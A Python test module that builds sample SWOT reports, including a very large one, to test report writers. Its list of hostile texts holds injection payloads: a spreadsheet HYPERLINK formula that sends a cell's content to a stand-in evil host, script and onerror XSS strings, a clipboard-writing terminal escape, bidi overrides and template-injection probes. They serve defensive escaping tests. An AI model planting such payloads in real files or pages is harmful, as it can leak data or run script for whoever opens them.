"""Reports for the tests of the writers: a rich one, a hostile one and a huge one."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime
from itertools import cycle
from typing import Final, Literal

import msgspec

from tests.builders.report_figures import answer_blocks, figure_blocks
from workshop.analysis.evidence import Support
from workshop.report.blocks import (
    AnyBlock,
    Bullets,
    Column,
    Gauge,
    Heading,
    Notice,
    Paragraph,
    Quadrant,
    QuadrantItem,
    Quarter,
    Quote,
    Report,
    Span,
    Table,
    plain,
)
from workshop.report.facts import Evidence, FactorFact, Facts, MatrixFact, MatrixRow, Swot

WHEN: Final = datetime(2026, 11, 20, 16, 45, tzinfo=UTC)

HOSTILE: Final = (
    "[red]bold[/x]",
    "[@click=app.quit]q[/]",
    "\x1b[31mred\x1b[0m \x1b]52;c;aGVsbG8=\x07after",
    "nul\x00 bell\x07 c1\x9b2J del\x7f",
    "\u202eoverride\u202c \u2066isolate\u2069",
    "lone \ud800 surrogate \udfff and \ufffe",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪",
    "組織の戦略は全員のものです。" * 4,
    "هذا نظام قديم جدا IT 2026",
    "w" * 10_000,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<r><t>run</t></r>",
    "</style></title></svg></textarea>-->",
    "[link](http://evil.example) ![i](http://evil.example/i.png) | pipe | `code`",
    "http://evil.example www.evil.example a@evil.example @everyone #12",
    "]]> </w:t> &amp; &#60;",
    "{{7*7}} {% raw %} ${7*7} $x$",
    "# head\n> quote\n- item\n1. one\n    code\n---\n| a | b |\n| - | - |\n```\nx",
    "line one\r\nline two\u2028line three\n\n\nline four",
    "trailing backslash \\",
    "*a* _b_ **c** ~~d~~ <b>e</b> \\`f`",
    "e\u0301a\u0300 Z" + "\u0351" * 40,
    "",
    "   ",
)
"""Texts that have broken some program somewhere."""

_KEPT: Final = {
    *("letter", "style", "document", "edition", "direction", "state", "setting", "block"),
    *("check", "outcome", "sign", "pattern"),
}


def with_texts(value: object, texts: dict[str, str], name: str = "") -> object:
    """The same value with each free text replaced by `texts[...]`, told apart by its field."""
    if isinstance(value, str):
        return value if name in _KEPT else texts.get(name, texts[""])
    if isinstance(value, tuple):
        return tuple(with_texts(part, texts, name) for part in value)
    if isinstance(value, dict):
        return {key: with_texts(part, texts, name) for key, part in value.items()}
    if isinstance(value, msgspec.Struct):
        fields = {
            field: with_texts(getattr(value, field), texts, field)
            for field in value.__struct_fields__
        }
        return type(value)(**fields)
    return value


def hostile(text: str) -> Report:
    """The sample with `text` in the place of every text of it."""
    report = with_texts(sample(), {"": text})
    assert isinstance(report, Report)
    return report


class _InTurn(dict[str, str]):
    """Texts for `with_texts`: each place gets the next of some, whatever its field is called."""

    def __init__(self, texts: Sequence[str]) -> None:
        super().__init__({"": ""})
        self._next = cycle(texts)

    def get(self, key: str, default: object = None) -> str:
        """The next text."""
        return next(self._next)


def hostile_in_turn(most: int) -> Report:
    """The sample with every hostile text that shows something in many places, `most` letters of it.

    What stands in a heading is never blank in a document, so blank ones are left out.
    """
    texts = [text[:most] for text in HOSTILE if text.strip()]
    report = with_texts(sample(), _InTurn(texts))
    assert isinstance(report, Report)
    return report


def _support(departments: int, entries: int, sessions: int) -> Support:
    return Support(
        sentence=f"{departments} of 6 departments · {entries} entries in {sessions} sessions",
        departments=departments,
        departments_heard=6,
        people=departments + 1,
        entries=entries,
        sessions=sessions,
        n=entries,
    )


_LETTERS: Final[dict[str, tuple[Literal["S", "W", "O", "T"], str, str]]] = {
    "S": ("S", "Strengths", "internal, helps"),
    "W": ("W", "Weaknesses", "internal, harms"),
    "O": ("O", "Opportunities", "external, helps"),
    "T": ("T", "Threats", "external, harms"),
}

_FACTORS: Final = {
    "S": (
        ("The help desk answers within the hour, also on the wards at night", 5, 9, 6),
        ("Month-end close is down to four days", 3, 5, 4),
        ("Nurses know the patients’ systems by heart", 3, 4, 3),
        ("One identity for every system since the spring", 2, 3, 2),
    ),
    "W": (
        ("The same data is typed into three systems and checked by hand in a fourth", 6, 14, 8),
        ("Two people hold the payroll interface; nobody else has ever seen it run", 3, 4, 3),
        ("Projects start without a named owner", 4, 6, 5),
        ("Rechtsschutzversicherungsgesellschaftenportalzugangsberechtigungen sind unklar", 1, 1, 1),
        ("لا أحد يملك قائمة العناوين", 1, 2, 1),
    ),
    "O": (
        ("A regional grant pays for shared records from 2027", 2, 2, 2),
        ("供給業者は無料のポータルを提供している", 1, 1, 1),
        ("Neighbouring hospitals look for a partner in purchasing", 2, 3, 2),
    ),
    "T": (
        ("E-invoicing becomes law in 2028", 4, 5, 4),
        ("Two suppliers end support for our versions next year", 3, 5, 3),
        (
            "Attacks on hospitals double every year (see https://example.org/reports/2026/health-sector)",
            5,
            8,
            5,
        ),
        ("Younger patients expect an app 📱 and go elsewhere 👩‍👩‍👧", 2, 2, 2),
    ),
}


def _facts_of(letter: str) -> tuple[FactorFact, ...]:
    return tuple(
        FactorFact(
            id=f"{letter}{at}",
            key=f"01k{letter.lower()}{at:016}",
            letter=_LETTERS[letter][0],
            text=text,
            support=_support(departments, entries, sessions),
            pestle="L" if letter in {"O", "T"} and at == 1 else None,
            direction={"O": "opportunity", "T": "threat"}.get(letter),  # type: ignore[arg-type]
            impact=4.0,
            likelihood=3.5,
            significance=14.0,
            significant=True,
            merged=("We type it twice.",) if at == 1 else (),
            evidence=(
                Evidence(
                    entry="01k00000000000000001",
                    text="We type it twice and then check it by hand.",
                    kind="quote",
                    who="Manager, Finance",
                    session="01k00000000000000002",
                    session_title="Interview with Finance",
                    at=WHEN,
                ),
            ),
        )
        for at, (text, departments, entries, sessions) in enumerate(_FACTORS[letter], 1)
    )


def facts() -> Facts:
    """Findings in every part."""
    matrix = MatrixFact(
        total=2.71,
        weight_sum=1.0,
        rows=(MatrixRow(id="S1", text="Help desk", weight=0.25, rating=4, score=1.0),),
        warnings=("Two factors had no weight.",),
        sentence="Above the midpoint.",
    )
    swot = Swot(
        strengths=_facts_of("S"),
        weaknesses=_facts_of("W"),
        opportunities=_facts_of("O"),
        threats=_facts_of("T"),
    )
    empty: dict[str, tuple[FactorFact, ...]] = dict.fromkeys(("P", "E", "S", "T", "En", "none"), ())
    return Facts(
        swot=swot,
        pestle={**empty, "L": (*_facts_of("O")[:1], *_facts_of("T")[:1])},
        ife=matrix,
        efe=MatrixFact(total=None, reason="Nobody scored the external factors."),
        departments=("Finance", "IT"),
        withheld=12,
    )


def quadrant() -> Quadrant:
    """The picture of the sample's factors."""
    quarters = [
        Quarter(
            letter=letter,
            title=title,
            note=note,
            items=tuple(
                QuadrantItem(code=fact.id, text=fact.text, support=fact.support.sentence)
                for fact in _facts_of(letter)
            ),
        )
        for letter, title, note in _LETTERS.values()
    ]
    return Quadrant(
        caption="What helps and what harms, inside and outside",
        quarters=(quarters[0], quarters[1], quarters[2], quarters[3]),
    )


def _register() -> Table:
    return Table(
        caption="External factors in the order of their significance",
        columns=(
            Column(title="Factor"),
            Column(title="What was said", weight=6),
            Column(title="Field", weight=2),
            Column(title="Impact", numeric=True),
            Column(title="Likelihood", numeric=True),
            Column(title="Significance", numeric=True, weight=2),
        ),
        rows=(
            ("T3", "Attacks on hospitals double every year", "Technological", "5", "4.5", "22.5"),
            ("T1", "E-invoicing becomes law in 2028", "Legal", "4", "5", "20"),
            (
                "O1",
                "A regional grant pays for shared records from 2027",
                "Economic",
                "3",
                "4",
                "12",
            ),
            ("O2", "供給業者は無料のポータルを提供している", "Technological", "2", "2", "4"),
            ("T5", "قانون جديد لحماية البيانات", "Legal", "2", "—", "—"),
        ),
    )


def _matrix() -> Table:
    return Table(
        caption="Internal factor evaluation",
        columns=(
            Column(title="Factor"),
            Column(title="What was said", weight=6),
            Column(title="Weight", numeric=True, weight=2),
            Column(title="Rating", numeric=True, weight=2),
            Column(title="Score", numeric=True, weight=2),
        ),
        rows=(
            ("S1", "The help desk answers within the hour", "0.20", "4", "0.80"),
            ("S2", "Month-end close is down to four days", "0.15", "3", "0.45"),
            ("W1", "The same data is typed into three systems", "0.40", "1", "0.40"),
            ("W2", "Two people hold the payroll interface", "0.25", "2", "0.50"),
        ),
        total=("", "Total", "1.00", "", "2.15"),
    )


def blocks() -> tuple[AnyBlock, ...]:
    """Every block there is, as a real summary has them."""
    return (
        *answer_blocks(),
        quadrant(),
        Notice(
            text="12 remarks are withheld in this edition: four were said off the record, "
            "eight are private notes."
        ),
        Heading(text="What stands out"),
        Paragraph(
            spans=(
                Span("Six of nine departments were heard, ", "plain"),
                Span("and all six type the same data more than once.", "strong"),
                Span(" Nobody disagreed; two said that it is worse at month end."),
            )
        ),
        Bullets(
            items=(
                (Span("W1 ", "strong"), Span("is said by every department that was heard.")),
                (
                    Span("S1 "),
                    Span("is the only strength with support from five. "),
                    Span("Two doubt it.", "muted"),
                ),
                plain("What will not be done, and why, is for the strategy workshop to say."),
            )
        ),
        Quote(
            text="We type it twice and then check it by hand.\nAnd then somebody prints it.",
            who="Manager, Customer service",
            where="Interview 3, 14:22",
        ),
        Quote(text="لا أحد يملك قائمة العناوين.", who="Sales", where="Workshop 1, 10:41"),
        Heading(text="Inside: strengths and weaknesses"),
        Heading(text="Internal factor evaluation", level=2),
        Gauge(
            label="IFE total",
            value=2.15,
            shown="2.15",
            least=1,
            greatest=4,
            midpoint=2.5,
            sentence="Below the midpoint: the organisation is weaker inside than its average peer.",
        ),
        _matrix(),
        Heading(text="Outside: opportunities and threats"),
        Paragraph(
            spans=plain(
                "Impact and likelihood were scored by seven people in private and discussed "
                "afterwards. The medians are shown; a dash means that nobody scored."
            )
        ),
        _register(),
        *figure_blocks(),
        Heading(text="Evidence"),
        Heading(text="W1 The same data is typed into three systems", level=2),
        Quote(text="Nobody owns the address list.", who="Sales", where=""),
    )


def sample() -> Report:
    """A SWOT summary with everything in it."""
    return Report(
        document="swot",
        edition="shareable",
        title="What helps and what holds back IT at Northfield Health",
        subtitle="Internal and external factors from eight interviews and two workshops",
        engagement="Northfield Health",
        created=WHEN,
        program="Workshop 0.1.0",
        meta=(
            ("Sessions", "8 interviews, 2 workshops"),
            ("Heard", "6 of 9 departments, 23 people"),
            ("Between", "3 and 20 November 2026"),
            ("Facilitator", "Ana Núñez"),
            ("Not heard", "Procurement, Estates, Legal"),
        ),
        blocks=blocks(),
        facts=facts(),
    )


def huge(factors: int = 500) -> Report:
    """A SWOT summary with `factors` in every quarter, and five entries behind each."""
    base = sample()
    texts = [f"Factor {at}: " + "people say that it matters and why " * 3 for at in range(factors)]
    quarters = [
        msgspec.structs.replace(
            quarter,
            items=tuple(
                QuadrantItem(code=f"{quarter.letter}{at}", text=text, support="4 of 6 departments")
                for at, text in enumerate(texts, 1)
            ),
        )
        for quarter in quadrant().quarters
    ]
    rows = tuple(
        (f"{letter}{at}", text, "Legal", "4", "3", "12")
        for letter in "SWOT"
        for at, text in enumerate(texts, 1)
    )
    quotes = [
        Quote(text=f"{text} {entry}", who="Manager, Finance", where="Interview 3, 14:22")
        for text in texts * 4
        for entry in range(5)
    ]
    grown = tuple(
        msgspec.structs.replace(fact, id=f"{fact.letter}{at}", evidence=fact.evidence * 5)
        for fact in _facts_of("S")[:1]
        for at in range(factors)
    )
    swot = Swot(strengths=grown, weaknesses=grown, opportunities=grown, threats=grown)
    return msgspec.structs.replace(
        base,
        blocks=(
            msgspec.structs.replace(quadrant(), quarters=tuple(quarters)),
            msgspec.structs.replace(_register(), rows=rows),
            *quotes,
        ),
        facts=msgspec.structs.replace(base.facts, swot=swot),
    )
